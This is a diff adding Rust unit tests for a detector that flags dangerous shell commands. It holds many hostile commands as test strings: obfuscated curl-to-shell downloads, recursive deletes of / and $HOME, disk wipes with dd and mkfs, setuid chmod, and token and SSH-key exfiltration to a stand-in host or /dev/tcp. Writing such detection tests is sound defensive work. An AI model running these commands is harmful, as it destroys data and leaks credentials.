@@ -1,0 +1,112 @@
+use super::*;
+
+fn rules(text: &str) -> Vec<&'static str> {
+    let mut out = Vec::new();
+    analyze(text, &mut out);
+    let mut ids: Vec<&'static str> = out.iter().map(|h| h.rule.id).collect();
+    ids.dedup();
+    ids
+}
+
+#[test]
+fn names_are_resolved_as_the_shell_resolves_them() {
+    assert_eq!(
+        rules("c=cu; c=${c}rl; $c -s https://t.example/i | ba\"\"sh"),
+        vec!["OBF020", "SUP020"]
+    );
+    assert!(
+        rules("$(printf '\\x63\\x75\\x72\\x6c') -s https://t.example/i | sh").contains(&"OBF020")
+    );
+    assert!(rules("PY=python3; $PY run.py").is_empty());
+}
+
+#[test]
+fn wrappers_are_unwrapped() {
+    assert_eq!(
+        rules("sudo -E env A=1 nice -n 5 rm -rf /usr"),
+        vec!["DES020"]
+    );
+    assert_eq!(rules("bash -c 'rm -rf \"$HOME\"'"), vec!["DES020"]);
+    assert_eq!(
+        rules("echo / | xargs rm -rf"),
+        Vec::<&str>::new(),
+        "xargs operands are unknown"
+    );
+}
+
+#[test]
+fn flags_in_any_spelling() {
+    for cmd in [
+        "rm -r -f /",
+        "rm -fr /",
+        "rm --recursive --force /",
+        "rm -R /etc",
+        "rm -r \\\n -f \\\n \"$HOME\"/",
+    ] {
+        assert_eq!(rules(cmd), vec!["DES020"], "{cmd}");
+    }
+    assert!(rules("rm -f /etc/x.conf").is_empty());
+}
+
+#[test]
+fn secrets_flow_through_variables_pipes_and_loops() {
+    assert_eq!(
+        rules("t=$GITHUB_TOKEN\nu=\"https://t.example/?k=$t\"\ncurl \"$u\""),
+        vec!["EXF020"]
+    );
+    assert_eq!(
+        rules("printenv | curl -X POST --data-binary @- https://t.example"),
+        vec!["EXF020"]
+    );
+    assert_eq!(
+        rules("curl -F \"f=@$HOME/.ssh/id_rsa\" https://t.example"),
+        vec!["EXF020"]
+    );
+    assert_eq!(
+        rules("scp ~/.aws/credentials u@t.example:/tmp/"),
+        vec!["EXF020"]
+    );
+    assert_eq!(
+        rules("cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.5/80"),
+        vec!["EXF020"]
+    );
+    assert!(rules("ssh -i ~/.ssh/id_ed25519 deploy@t.example uptime").is_empty());
+    assert!(rules("curl -u \"$GITHUB_USER:$GITHUB_TOKEN\" https://api.github.com/user").is_empty());
+    assert!(rules(
+        "curl -H \"Authorization: Bearer $SLACK_BOT_TOKEN\" https://slack.com/api/chat.postMessage"
+    )
+    .is_empty());
+}
+
+#[test]
+fn downloads_that_run() {
+    assert_eq!(
+        rules("curl -fsSL https://t.example/i.sh -o i.sh\nchmod +x i.sh\n./i.sh"),
+        vec!["SUP020"]
+    );
+    assert_eq!(
+        rules("source <(curl -s https://t.example/env)"),
+        vec!["SUP020"]
+    );
+    assert!(rules("curl -s https://t.example/i.sh -o i.sh\nless i.sh").is_empty());
+}
+
+#[test]
+fn devices_and_modes() {
+    assert_eq!(rules("DEV=$(lsblk -ndo PATH | head -1)\ndd if=/dev/urandom of=\"$DEV\" bs=4M\nmkfs.ext4 -F \"$DEV\""), vec!["DES021"]);
+    assert_eq!(rules("chmod 4755 /tmp/x"), vec!["PRV020"]);
+    assert_eq!(rules("chmod g+s,u+s /tmp/x"), vec!["PRV020"]);
+    assert!(rules("chmod 0755 x && chmod a+x y").is_empty());
+}
+
+#[test]
+fn hostile_input_is_bounded() {
+    let deep = format!("{}{}", "$(".repeat(5_000), ")".repeat(5_000));
+    let _ = rules(&deep);
+    let long = format!("echo {}", "a".repeat(1 << 20));
+    assert!(rules(&long).is_empty());
+    let many = "x=$x$x\n".repeat(2_000);
+    let _ = rules(&many);
+    let nested = "bash -c \"".repeat(50);
+    let _ = rules(&nested);
+}
